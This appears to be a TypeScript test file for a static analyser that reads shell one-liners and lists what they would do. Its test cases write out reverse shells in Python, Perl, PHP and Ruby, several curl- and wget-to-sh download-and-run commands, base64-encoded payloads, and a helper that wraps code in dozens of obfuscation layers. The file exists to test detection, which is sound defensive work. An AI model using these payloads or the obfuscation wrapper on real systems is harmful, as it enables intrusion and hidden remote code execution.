import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { actionText } from '../../../test/builders/action-text.ts';
import { mutate } from '../../../test/contracts/format.contract.ts';
import { parseShell } from './shell.ts';
import { evaluateShell } from './shell-values.ts';

const actionsOf = (script: string): readonly string[] =>
  evaluateShell(parseShell(Buffer.from(script), { dialect: 'bash' }), { arguments: [] }).actions.map(actionText);

type Case = readonly [script: string, actions: readonly string[]];

const oneLiners: readonly Case[] = [
  [
    'python3 -c "import base64;exec(base64.b64decode(\'aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCIp\'))"',
    [
      'run python3 -c',
      'decode base64 from aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCIp',
      'run python code <decode:base64>',
      'download curl from http://192.0.2.1/x',
      'run sh <download:http://192.0.2.1/x>',
    ],
  ],
  [
    'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
    ['run python3 -c', 'run sh -i', 'connect python to 192.0.2.1:4444 SHELL'],
  ],
  [
    'python -c "import urllib.request as u; exec(u.urlopen(\'http://192.0.2.1/p\').read())"',
    [
      'run python -c',
      'download urllib.request.urlopen from http://192.0.2.1/p',
      'run python code <download:http://192.0.2.1/p>',
    ],
  ],
  [
    'python3 -c \'\nimport requests, os\nr = requests.get("http://192.0.2.1/bin")\nopen("/tmp/b", "wb").write(r.content)\nos.chmod("/tmp/b", 0o755)\nos.system("/tmp/b -o pool.example:3333")\'',
    [
      'run python3 -c',
      'download requests.get from http://192.0.2.1/bin',
      'write /tmp/b <download:http://192.0.2.1/bin>',
      'make-executable /tmp/b 755 <download:http://192.0.2.1/bin>',
      'run /tmp/b -o pool.example:3333 <download:http://192.0.2.1/bin>',
    ],
  ],
  [
    "node -e \"require('child_process').exec('curl http://192.0.2.1/x | sh')\"",
    ['run node -e', 'download curl from http://192.0.2.1/x', 'run sh <download:http://192.0.2.1/x>'],
  ],
  [
    "node -e \"const {spawn}=require('child_process');eval(Buffer.from('c3Bhd24oJ3NoJywgWyctYycsICdpZCddKQ==','base64').toString())\"",
    ['run node -e', 'decode base64 from c3Bhd24oJ3NoJywgWyctYycsICdpZCddKQ==', 'run javascript code <decode:base64>'],
  ],
  [
    'perl -e \'use Socket;$i="192.0.2.1";$p=99;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
    ['run perl -e', 'run sh -i', 'connect perl to 192.0.2.1:99 SHELL'],
  ],
  [
    'perl -MMIME::Base64 -e \'system(decode_base64("Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA=="))\'',
    [
      'run perl -MMIME::Base64 -e',
      'decode base64 from Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA==',
      'run sh -c <decode:base64>',
      'download curl from http://192.0.2.1/x',
      'run sh <download:http://192.0.2.1/x>',
    ],
  ],
  [
    'perl -e \'exec "wget -qO- http://192.0.2.1/x | sh"\'',
    ['run perl -e', 'download wget from http://192.0.2.1/x', 'run sh <download:http://192.0.2.1/x>'],
  ],
  [
    'php -r \'eval(gzinflate(base64_decode("abcd")));\'',
    [
      'run php -r',
      'decode base64 from abcd',
      'decode zlib from 3 bytes <decode:base64>',
      'run php code <decode:base64 decode:zlib>',
    ],
  ],
  [
    'php -r \'$sock=fsockopen("192.0.2.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    ['run php -r', 'run sh -i', 'connect php to 192.0.2.1:1234 SHELL'],
  ],
  [
    'ruby -e \'require "base64"; system(Base64.decode64("aWQ="))\'',
    ['run ruby -e', 'decode base64 from aWQ=', 'run sh -c <decode:base64>'],
  ],
  [
    'ruby -rsocket -e \'f=TCPSocket.new("192.0.2.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    [
      'run ruby -rsocket -e',
      'run sh -c',
      'run sh -i',
      'write ‹connection to 192.0.2.1:1234.to_i›',
      'connect ruby to 192.0.2.1:1234 SHELL',
    ],
  ],
  ["python3 -c \"print('hello'); import json; x = json.loads('{}'); print(x.get('a'))\"", ['run python3 -c']],
  ['python3 -m http.server 80', ['run python3 -m http.server 80']],
  ['node server.js', ['run /server.js (node)']],
  ['php -r \'$f="sys"."tem"; $f("id > /tmp/a");\'', ['run php -r', 'write /tmp/a']],
];

describe('one-liners of other languages', () => {
  for (const [script, actions] of oneLiners)
    test(JSON.stringify(script), () => {
      assert.deepEqual(actionsOf(script), actions);
    });
});

/** One Python file in that many layers of compression, encoding and reversal, each undone by a lambda and run. */
const wrapped = (code: string, layers: number): string => {
  let inner = code;
  for (let layer = 0; layer < layers; layer += 1) {
    const packed = deflateSync(inner).toString('base64').split('').toReversed().join('');
    inner = `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${packed}'))`;
  }
  return inner;
};

test('dozens of layers of decode-and-run are followed to the innermost', () => {
  const script = `python3 - <<'E'\n${wrapped("import os;os.system('wget http://192.0.2.3/n -O /tmp/n; sh /tmp/n')", 40)}\nE`;
  const actions = actionsOf(script);
  assert.equal(actions.filter((line) => line.startsWith('run python code')).length, 40);
  assert.equal(actions.at(-1), 'run /tmp/n (sh) <download:http://192.0.2.3/n>');
});

test('code that runs itself is left with what was found', () => {
  const { actions, limitsMet } = evaluateShell(parseShell(Buffer.from(`python3 -c 'x="exec(x)"; exec(x)'`)), {});
  assert.ok(actions.length >= 1);
  assert.deepEqual(limitsMet, []);
});

test('more layers than anybody follows are told', () => {
  const limits = (layers: number): readonly string[] => {
    const script = `python3 - <<'E'\n${wrapped('import os', layers)}\nE`;
    return evaluateShell(parseShell(Buffer.from(script)), { limits: { steps: 1_000_000 } }).limitsMet;
  };
  assert.deepEqual(limits(130), ['depth']);
  assert.deepEqual(limits(60), []);
});

test('a connection gives a shell only where a shell stands beside it and is given to it', () => {
  const connects = (code: string): string | undefined =>
    actionsOf(
      `python3 - <<'E'\nimport socket, os, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 99))\n${code}\nE`,
    ).at(-1);
  assert.equal(
    connects('os.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])'),
    'connect python to 192.0.2.1:99 SHELL',
  );
  assert.equal(connects('p = subprocess.Popen("sh", stdin=s)'), 'connect python to 192.0.2.1:99 SHELL');
  assert.equal(connects('import pty; pty.spawn("sh")'), 'connect python to 192.0.2.1:99 SHELL');
  assert.equal(connects('text = "#!/bin/bash"\nos.dup2(s.fileno(), 0)'), 'connect python to 192.0.2.1:99');
  assert.equal(connects('shell = "/bin/sh"'), 'connect python to 192.0.2.1:99');
  assert.equal(
    connects(`${'a = 1\n'.repeat(1000)}os.dup2(s.fileno(), 0)\nx = "/bin/sh"`),
    'connect python to 192.0.2.1:99',
  );
});

describe('hostile code ends soon', () => {
  const shapes: Readonly<Record<string, string>> = {
    parentheses: '('.repeat(50_000),
    quotes: `"'`.repeat(50_000),
    'triple quotes': `'''a`.repeat(30_000),
    lambdas: 'lambda a: '.repeat(20_000),
    calls: 'a('.repeat(50_000),
    'lambdas that call themselves': 'f = lambda x: f(x) + f(x); f(1)',
    sums: `x = ${'"a" + '.repeat(30_000)}"b"`,
    'a text that doubles': `x = "aaaaaaaa"\n${'x = x + x\n'.repeat(60)}exec(x)`,
  };
  for (const language of ['python3 -c', 'node -e', 'perl -e', 'php -r', 'ruby -e'])
    for (const [name, code] of Object.entries(shapes))
      test(`${language}: ${name}`, () => {
        const started = performance.now();
        actionsOf(`${language} "$(cat <<'END'\n${code}\nEND\n)"`);
        assert.ok(performance.now() - started < 5000);
      });
});

test('whatever the code, reading it ends in actions', () => {
  const all = Buffer.from(oneLiners.map(([script]) => script).join('\n'));
  for (let seed = 0; seed < 300; seed += 1)
    for (const { offset } of evaluateShell(parseShell(mutate(all, seed)), {}).actions) assert.ok(offset >= 0);
});
